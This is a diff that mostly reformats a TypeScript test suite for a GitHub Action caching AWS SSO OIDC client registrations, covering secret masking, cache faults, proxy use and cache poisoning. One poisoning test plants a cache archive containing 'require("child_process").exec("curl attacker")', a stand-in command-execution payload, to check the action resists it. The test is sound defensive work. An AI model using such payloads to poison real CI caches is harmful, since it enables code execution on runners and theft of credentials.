@@ -132,7 +132,9 @@ function committed(fake: FakeCacheService) {
 function expectNothingLeaked(world: World, runs: GateRun[], { plainSecrets = false } = {}): void {
   const secrets = world.secrets()
   for (const { run } of runs) expectNoSecretLeaks(run, secrets, { maskedOutputs: ['access-token'] })
-  const inEntries = plainSecrets ? Object.fromEntries(Object.entries(secrets).filter(([label]) => !label.startsWith('clientSecret'))) : secrets
+  const inEntries = plainSecrets
+    ? Object.fromEntries(Object.entries(secrets).filter(([label]) => !label.startsWith('clientSecret')))
+    : secrets
   const texts = Object.fromEntries(world.fake.entries.map((entry) => [entry.key, openArchive(entry.archive).toString('latin1')]))
   expectNoSecretLeaks({ stdout: '', stderr: '', summary: '', outputs: {}, env: {}, path: [], state: {} }, inEntries, { texts })
 }
@@ -156,7 +158,11 @@ interface CacheBounds {
 }
 const REAL_BOUNDS: CacheBounds = { restoreMs: DEFAULT_RESTORE_TIMEOUT_MS, saveMs: DEFAULT_SAVE_TIMEOUT_MS, inputs: {} }
 const SHORT_TIMEOUT_SECONDS = 24
-const SHORT_BOUNDS: CacheBounds = { restoreMs: (SHORT_TIMEOUT_SECONDS * 1000) / 4, saveMs: (SHORT_TIMEOUT_SECONDS * 1000) / 4, inputs: { timeout: String(SHORT_TIMEOUT_SECONDS) } }
+const SHORT_BOUNDS: CacheBounds = {
+  restoreMs: (SHORT_TIMEOUT_SECONDS * 1000) / 4,
+  saveMs: (SHORT_TIMEOUT_SECONDS * 1000) / 4,
+  inputs: { timeout: String(SHORT_TIMEOUT_SECONDS) }
+}
 
 /**
  * One run against a service with `fault` set on `endpoint` (after a first run that fills the cache,
@@ -200,12 +206,16 @@ describe.each<CacheProtocol>(['v2', 'v1'])('the registration cache through dist/
     expect(world.backend.emulator.counts.RegisterClient).toBe(1)
     // Awaited before the step ended: the entry is there once the step is.
     expect(committed(world.fake)).toHaveLength(1)
-    expect(first.run.stdout).toMatch(/^Saved the OIDC client registration to the Actions cache as aws-sso-device-auth-registration-v1-plain-/m)
+    expect(first.run.stdout).toMatch(
+      /^Saved the OIDC client registration to the Actions cache as aws-sso-device-auth-registration-v1-plain-/m
+    )
 
     const second = await world.gate()
     expectApproved(second)
     expect(world.backend.emulator.counts.RegisterClient).toBe(1)
-    expect(second.run.stdout).toMatch(new RegExp(`^Reusing the cached OIDC client registration ${clientIdOf(world.fake.entries[0]!)}, valid until `, 'm'))
+    expect(second.run.stdout).toMatch(
+      new RegExp(`^Reusing the cached OIDC client registration ${clientIdOf(world.fake.entries[0]!)}, valid until `, 'm')
+    )
     expect(world.fake.entries).toHaveLength(1)
     expectMaskedBeforeUse(second.run, world.secrets().clientSecret!, 'clientSecret')
     expectNothingLeaked(world, [first, second], { plainSecrets: true })
@@ -253,22 +263,29 @@ describe.each<CacheProtocol>(['v2', 'v1'])('the registration cache through dist/
     expectNothingLeaked(world, [second, third], { plainSecrets: true })
   })
 
-  it.concurrent('a registration unknown to AWS (another emulator, a deleted client) is replaced before any prompt, without a warning', async () => {
-    const earlier = await trackedWorld(protocol)
-    expectApproved(await earlier.gate())
-    // A fresh emulator behind the same cache: what each CI run meets.
-    const world = await trackedWorld(protocol)
-    world.fake.seedEntry({ key: earlier.fake.entries[0]!.key, version: earlier.fake.entries[0]!.version, archive: earlier.fake.entries[0]!.archive })
-    await nextSecond()
+  it.concurrent(
+    'a registration unknown to AWS (another emulator, a deleted client) is replaced before any prompt, without a warning',
+    async () => {
+      const earlier = await trackedWorld(protocol)
+      expectApproved(await earlier.gate())
+      // A fresh emulator behind the same cache: what each CI run meets.
+      const world = await trackedWorld(protocol)
+      world.fake.seedEntry({
+        key: earlier.fake.entries[0]!.key,
+        version: earlier.fake.entries[0]!.version,
+        archive: earlier.fake.entries[0]!.archive
+      })
+      await nextSecond()
 
-    const run = await world.gate()
-    expectApproved(run)
-    expect(run.run.stdout).toContain('Reusing the cached OIDC client registration')
-    expect(run.run.stdout).toContain('which AWS no longer accepts')
-    expect(world.backend.emulator.counts).toMatchObject({ RegisterClient: 1, StartDeviceAuthorization: 2 })
-    expect(run.run.stdout.match(/AWS access requested/g)).toHaveLength(1)
-    expect(committed(world.fake)).toHaveLength(2)
-  })
+      const run = await world.gate()
+      expectApproved(run)
+      expect(run.run.stdout).toContain('Reusing the cached OIDC client registration')
+      expect(run.run.stdout).toContain('which AWS no longer accepts')
+      expect(world.backend.emulator.counts).toMatchObject({ RegisterClient: 1, StartDeviceAuthorization: 2 })
+      expect(run.run.stdout.match(/AWS access requested/g)).toHaveLength(1)
+      expect(committed(world.fake)).toHaveLength(2)
+    }
+  )
 
   it.concurrent('a registration expiring within 15 minutes is not reused, and that is said only in debug', async () => {
     // Registrations live 10 minutes here: every cached one is too close to its end.
@@ -291,7 +308,9 @@ describe.each<CacheProtocol>(['v2', 'v1'])('the registration cache through dist/
 
     const second = await world.gate()
     expectApproved(second, 1)
-    expect(otherWarnings(second.run)[0]).toMatch(/^Ignoring the cached OIDC client registration .*: the entry is not JSON; a new client will be registered\.$/)
+    expect(otherWarnings(second.run)[0]).toMatch(
+      /^Ignoring the cached OIDC client registration .*: the entry is not JSON; a new client will be registered\.$/
+    )
     expect(world.backend.emulator.counts.RegisterClient).toBe(2)
     expect(committed(world.fake)).toHaveLength(2)
     expectNothingLeaked(world, [second], { plainSecrets: true })
@@ -304,7 +323,9 @@ describe.each<CacheProtocol>(['v2', 'v1'])('the registration cache through dist/
 
     const second = await world.gate({ 'cache-encryption-key': OTHER_KEY })
     expectApproved(second, 1)
-    expect(otherWarnings(second.run)[0]).toMatch(/does not decrypt with this key.*If cache-encryption-key was changed, this is expected once/)
+    expect(otherWarnings(second.run)[0]).toMatch(
+      /does not decrypt with this key.*If cache-encryption-key was changed, this is expected once/
+    )
     expect(world.backend.emulator.counts.RegisterClient).toBe(2)
 
     const third = await world.gate({ 'cache-encryption-key': OTHER_KEY })
@@ -345,9 +366,13 @@ describe.each<CacheProtocol>(['v2', 'v1'])('the registration cache through dist/
     const label = ({ fault, bounds }: (typeof cases)[number]): string =>
       `${fault.kind === 'status' ? String(fault.status) : fault.kind}${bounds === REAL_BOUNDS ? ' (the real bound)' : ` (timeout ${SHORT_TIMEOUT_SECONDS} s)`}`
 
-    it.concurrent.each(cases.map((c) => [c.endpoint, label(c), c] as const))('%s answering %s', async (endpoint, _label, { fault, bounds }) => {
-      await expectFaultBounded(await trackedWorld(protocol), endpoint, fault, bounds)
-    }, 120_000)
+    it.concurrent.each(cases.map((c) => [c.endpoint, label(c), c] as const))(
+      '%s answering %s',
+      async (endpoint, _label, { fault, bounds }) => {
+        await expectFaultBounded(await trackedWorld(protocol), endpoint, fault, bounds)
+      },
+      120_000
+    )
   })
 
   // Alone, not beside the others: its eight jobs must register close together (see below).
@@ -379,47 +404,64 @@ describe.each<CacheProtocol>(['v2', 'v1'])('the registration cache through dist/
 })
 
 describe("the registration cache through dist/ with v2 blobs on Azure's host, reached through HTTP_PROXY as on a hosted runner", () => {
-  const blobRequests = (fake: FakeCacheService) => fake.requests.filter((request) => request.endpoint === 'upload' || request.endpoint === 'download')
-  const tunnels = (fake: FakeCacheService) => fake.requests.filter((request) => request.method === 'CONNECT').map(({ host, status }) => ({ host, status }))
+  const blobRequests = (fake: FakeCacheService) =>
+    fake.requests.filter((request) => request.endpoint === 'upload' || request.endpoint === 'download')
+  const tunnels = (fake: FakeCacheService) =>
+    fake.requests.filter((request) => request.method === 'CONNECT').map(({ host, status }) => ({ host, status }))
 
-  it.concurrent("run 2 restores with one plain GET through the proxy (the action's own download), and zero RegisterClient calls", async () => {
-    const world = await trackedWorld('v2', {}, 'azure')
+  it.concurrent(
+    "run 2 restores with one plain GET through the proxy (the action's own download), and zero RegisterClient calls",
+    async () => {
+      const world = await trackedWorld('v2', {}, 'azure')
 
-    const first = await world.gate()
-    expectApproved(first)
-    expect(committed(world.fake)).toHaveLength(1)
-    const second = await world.gate()
+      const first = await world.gate()
+      expectApproved(first)
+      expect(committed(world.fake)).toHaveLength(1)
+      const second = await world.gate()
 
-    expectApproved(second)
-    expect(world.backend.emulator.counts.RegisterClient).toBe(1)
-    expect(second.run.stdout).toMatch(new RegExp(`^Reusing the cached OIDC client registration ${clientIdOf(world.fake.entries[0]!)}, valid until `, 'm'))
-    // The action's save and its restore both tunnel through the proxy (undici's proxy agent tunnels
-    // http targets too, one tunnel per run): one Put Blob, then one GET of the whole blob.
-    expect(blobRequests(world.fake).map(({ method, host, proxied, status, range }) => ({ method, host, proxied, status, range }))).toEqual([
-      { method: 'PUT', host: AZURE_BLOB_HOST, proxied: true, status: 201, range: undefined },
-      { method: 'GET', host: AZURE_BLOB_HOST, proxied: true, status: 200, range: undefined }
-    ])
-    expect(tunnels(world.fake)).toEqual([
-      { host: `${AZURE_BLOB_HOST}:80`, status: 200 },
-      { host: `${AZURE_BLOB_HOST}:80`, status: 200 }
-    ])
-    // Only the blob host went through the proxy (anything else would have met a 502): the Twirp
-    // calls went direct, and so did every AWS call, or the emulator would not have approved.
-    const others = world.fake.requests.filter((request) => !blobRequests(world.fake).includes(request) && request.method !== 'CONNECT')
-    expect(others.every((request) => !request.proxied && request.twirpMethod !== undefined && request.status === 200)).toBe(true)
-    expectMaskedBeforeUse(second.run, world.secrets().clientSecret!, 'clientSecret')
-    expectNothingLeaked(world, [first, second], { plainSecrets: true })
-  })
+      expectApproved(second)
+      expect(world.backend.emulator.counts.RegisterClient).toBe(1)
+      expect(second.run.stdout).toMatch(
+        new RegExp(`^Reusing the cached OIDC client registration ${clientIdOf(world.fake.entries[0]!)}, valid until `, 'm')
+      )
+      // The action's save and its restore both tunnel through the proxy (undici's proxy agent tunnels
+      // http targets too, one tunnel per run): one Put Blob, then one GET of the whole blob.
+      expect(
+        blobRequests(world.fake).map(({ method, host, proxied, status, range }) => ({ method, host, proxied, status, range }))
+      ).toEqual([
+        { method: 'PUT', host: AZURE_BLOB_HOST, proxied: true, status: 201, range: undefined },
+        { method: 'GET', host: AZURE_BLOB_HOST, proxied: true, status: 200, range: undefined }
+      ])
+      expect(tunnels(world.fake)).toEqual([
+        { host: `${AZURE_BLOB_HOST}:80`, status: 200 },
+        { host: `${AZURE_BLOB_HOST}:80`, status: 200 }
+      ])
+      // Only the blob host went through the proxy (anything else would have met a 502): the Twirp
+      // calls went direct, and so did every AWS call, or the emulator would not have approved.
+      const others = world.fake.requests.filter((request) => !blobRequests(world.fake).includes(request) && request.method !== 'CONNECT')
+      expect(others.every((request) => !request.proxied && request.twirpMethod !== undefined && request.status === 200)).toBe(true)
+      expectMaskedBeforeUse(second.run, world.secrets().clientSecret!, 'clientSecret')
+      expectNothingLeaked(world, [first, second], { plainSecrets: true })
+    }
+  )
 
   // The action's deadline must end the wait, and the request, wherever the download stops.
-  it.concurrent('a download that hangs is given up within the restore bound', async () => {
-    const world = await trackedWorld('v2', {}, 'azure')
-    const faulty = await expectFaultBounded(world, 'download', { kind: 'hang' }, SHORT_BOUNDS)
-    expect(otherWarnings(faulty.run)[0]).toBe(`The Actions cache did not answer within ${SHORT_BOUNDS.restoreMs / 1000} s; a new client will be registered.`)
-    // Only the faulty run downloaded (the first found the cache empty): one GET, never answered.
-    const downloads = world.fake.requests.filter((request) => request.endpoint === 'download').map(({ method, status }) => `${method} ${status}`)
-    expect(downloads).toEqual(['GET 0'])
-  }, 120_000)
+  it.concurrent(
+    'a download that hangs is given up within the restore bound',
+    async () => {
+      const world = await trackedWorld('v2', {}, 'azure')
+      const faulty = await expectFaultBounded(world, 'download', { kind: 'hang' }, SHORT_BOUNDS)
+      expect(otherWarnings(faulty.run)[0]).toBe(
+        `The Actions cache did not answer within ${SHORT_BOUNDS.restoreMs / 1000} s; a new client will be registered.`
+      )
+      // Only the faulty run downloaded (the first found the cache empty): one GET, never answered.
+      const downloads = world.fake.requests
+        .filter((request) => request.endpoint === 'download')
+        .map(({ method, status }) => `${method} ${status}`)
+      expect(downloads).toEqual(['GET 0'])
+    },
+    120_000
+  )
 })
 
 describe('a poisoned registration cache entry through dist/ (issue #12)', () => {
@@ -443,7 +485,11 @@ describe('a poisoned registration cache entry through dist/ (issue #12)', () => 
       // Newer than the genuine entry under the same prefix and version: the one a restore gets. (Not
       // a key a registration could take: the run's own save must not meet it.)
       const key = `${genuine.key}-planted`
-      world.fake.seedEntry({ key, version: genuine.version, archive: zstd(libraryShapedTar(postStep, 'require("child_process").exec("curl attacker")')) })
+      world.fake.seedEntry({
+        key,
+        version: genuine.version,
+        archive: zstd(libraryShapedTar(postStep, 'require("child_process").exec("curl attacker")'))
+      })
       await nextSecond()
 
       const poisoned = await world.gate()
@@ -467,8 +513,12 @@ describe('a poisoned registration cache entry through dist/ (issue #12)', () => 
 describe('the registration cache: the action never loads @actions/cache', () => {
   it('bundles none of it, and saves a miss with its own three requests: reserve, one Put Blob, commit', async () => {
     // The library's own string, as bench/bundle.ts recognises it: in no file of dist/.
-    const files = readdirSync(join(repositoryRoot, 'dist'), { recursive: true }).map(String).filter((name) => name.endsWith('.js'))
-    expect(files.filter((name) => readFileSync(join(repositoryRoot, 'dist', name), 'utf8').includes('Cache Service Url not found'))).toEqual([])
+    const files = readdirSync(join(repositoryRoot, 'dist'), { recursive: true })
+      .map(String)
+      .filter((name) => name.endsWith('.js'))
+    expect(
+      files.filter((name) => readFileSync(join(repositoryRoot, 'dist', name), 'utf8').includes('Cache Service Url not found'))
+    ).toEqual([])
 
     const world = await trackedWorld('v2')
     const miss = await world.gate()
